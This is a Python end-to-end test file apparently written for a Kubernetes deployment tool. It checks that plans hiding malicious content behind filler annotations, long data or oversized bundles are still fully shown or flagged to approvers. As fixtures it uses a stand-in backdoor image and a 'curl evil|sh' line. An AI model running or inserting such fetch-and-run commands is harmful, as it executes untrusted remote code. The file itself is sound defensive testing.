"""An author of Specs hides something in a plan. Whoever approves it sees it all the same."""

import re
import shlex

import pytest

from kusion_e2e.approved import Approved
from kusion_e2e.paths import ROOT
from kusion_e2e.shell import type_in
from kusion_e2e.specs import config_map, resource
from kusion_e2e.state_backend import need_objects

SAFE, EVIL = "registry.example/app:1", "evil.example/backdoor:1"
FILLER = {f"a{n:03}": "x" for n in range(300)}


@pytest.fixture
def spec(controlled, tenant):
    return Approved(controlled, tenant)


def shown(spec):
    """What the CLI shows of the plan that waits."""
    need_objects()
    name = spec.waiting()["metadata"]["name"]
    result = type_in(spec.cluster, f"kubectl kusion show {name} -n {spec.namespace} --full")
    assert result.returncode == 0, result
    return result.stdout


def pod(namespace, image):
    return resource({"apiVersion": "v1", "kind": "Pod",
                     "metadata": {"name": "p", "namespace": namespace, "annotations": FILLER, "labels": FILLER},
                     "spec": {"containers": [{"name": "c", "image": image}]}})


def test_behind_annotations(spec):
    spec.apply([pod(spec.namespace, EVIL)])
    lines = shown(spec).splitlines()
    image = next(number for number, line in enumerate(lines) if EVIL in line)
    assert image < next(number for number, line in enumerate(lines) if "annotations.a000" in line)
    assert len([line for line in lines if "metadata.annotations.a" in line]) == 300, "all are there"
    assert not any("NOT shown" in line for line in lines)


def test_behind_data(spec):
    """All of it is data: no order helps."""
    data = {**{f"k{n:04}": "x" * 50 for n in range(2000)}, "zz": EVIL}
    spec.apply([config_map("a", spec.namespace, data)])
    assert EVIL in shown(spec)


def script(line, before=400, after=400):
    return "#!/bin/sh\n# " + "-" * before + f"\n{line}\n# " + "-" * after + "\n"


@pytest.mark.parametrize("made", ["created", "updated"])
def test_in_the_middle_of_a_long_value(spec, made):
    if made == "updated":
        spec.apply([config_map("a", spec.namespace, {"run.sh": script("echo good")})])
        assert "echo good" in shown(spec)
        spec.approve(spec.waiting())
        spec.wait("True")
    spec.apply([config_map("a", spec.namespace, {"run.sh": script("curl evil|sh")})])
    line = next(line for line in shown(spec).splitlines() if "run.sh" in line)
    assert "curl evil|sh" in line
    if made == "updated":
        before, after = line.split(" = ")[1].split(" -> ")
        assert before != after and "echo good" in before and "bytes…" in before


def test_in_a_plan_that_is_too_large(spec):
    """What does not fit is said, and takes another word of approval."""
    large = [config_map(f"c{n:02}", spec.namespace, {f"k{k:03}": "x" * 200 for k in range(390)}) for n in range(12)]
    spec.apply([*large[:-1], config_map("c99", spec.namespace, {**large[-1]["attributes"]["data"], "zz": EVIL})])
    text = shown(spec)
    release = spec.waiting()
    assert release["status"]["plan"]["unseen"] == 1
    assert "NOT shown in full" in spec.condition()["message"]
    assert EVIL not in text and "create    ConfigMap/" in text
    above, _, command = text.partition("next:  ")
    assert above.splitlines()[-2].endswith("fields are NOT shown above."), above[-500:]
    assert "kubectl kusion approve" in command
    digest = release["status"]["plan"]["digest"]
    answer = spec.cluster.api.patch(spec.release_path(release), {"spec": {"approvedPlan": digest}})
    assert answer.code == 422 and "does not show all of the plan" in answer.message, answer
    body = {"spec": {"approvedPlan": digest, "approvedUnseen": True}}
    spec.cluster.api.patch(spec.release_path(release), body).must()
    spec.wait("True")


def test_in_a_secret(spec):
    """It is hidden; that it is approved unseen is said."""
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s", "namespace": spec.namespace},
              "stringData": {"a": EVIL}}
    spec.apply([resource(secret)])
    text = shown(spec)
    assert EVIL not in text and re.search("sensitive values? (is|are) approved unseen", text)
    assert re.search(r"; \d sensitive values? (is|are) approved unseen", spec.condition()["message"])
